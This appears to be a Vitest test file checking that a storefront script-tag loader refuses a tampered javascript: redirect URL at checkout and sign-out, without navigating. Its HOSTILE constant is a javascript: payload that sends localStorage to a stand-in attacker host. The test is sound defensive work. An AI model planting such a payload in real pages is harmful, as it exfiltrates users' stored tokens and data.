// @vitest-environment-options {"url": "http://localhost:4000/shop"}
import { afterEach, beforeAll, describe, expect, it, vi } from 'vitest';
import { boot } from '../../../src/loader';
import { REDIRECT_SESSION_PATH, refusalOf } from '../../helpers/navigation';
import { SANDBOX_ORIGIN, testSandbox } from '../../helpers/sandbox';
import { CHUNK_TIMEOUT_MS, importChunks } from '../../helpers/widget';

// What the code loads on first use (`import()`), here once: the tests wait for it, not for vitest loading it.
beforeAll(() => importChunks('cartEdits', 'cartV1', 'redirects', 'memberActions'), CHUNK_TIMEOUT_MS);

const HOSTILE = 'javascript:fetch("https://evil.example/?"+JSON.stringify(localStorage))';
const REFUSAL = refusalOf(HOSTILE);

afterEach(() => vi.restoreAllMocks());

describe('the script tag’s storefront opens no hostile address from the platform', () => {
  it('refuses a javascript: checkout and logout page: no location change, a clear error', async () => {
    const { sandbox } = testSandbox();
    let poisoned = false;
    const fetch: typeof globalThis.fetch = async (input, init) => {
      const response = await sandbox.fetch(new Request(input as RequestInfo, init));
      if (!poisoned || !new URL(response.url || String(input)).pathname.endsWith(REDIRECT_SESSION_PATH))
        return response;
      const { redirectSession } = (await response.json()) as { redirectSession: Record<string, unknown> };
      return Response.json({ redirectSession: { ...redirectSession, fullUrl: HOSTILE } });
    };
    const assign = vi.spyOn(window.location, 'assign').mockImplementation(() => {});
    const script = document.createElement('script');
    script.dataset.clientId = 'demo-client';
    script.dataset.apiBase = SANDBOX_ORIGIN;
    const { api, store, ready } = boot({ script, fetch });
    await ready;
    const pin = [...sandbox.context.state.products.values()].find((p) => p.slug === 'enamel-pin-set');
    expect(await api.addToCart(pin?.id as string)).toBe(1);

    poisoned = true;
    await store.getState().checkout();
    expect(store.getState().cart.checkoutError).toEqual({ key: 'checkoutFailed', detail: REFUSAL });
    const warn = vi.spyOn(console, 'warn').mockImplementation(() => {});
    await api.signOut();
    expect(warn.mock.calls.at(-1)?.[1]).toMatchObject({ name: 'UnsafeUrlError', message: REFUSAL });
    expect(assign).not.toHaveBeenCalled();
    expect(window.location.href).toBe('http://localhost:4000/shop');
  });
});
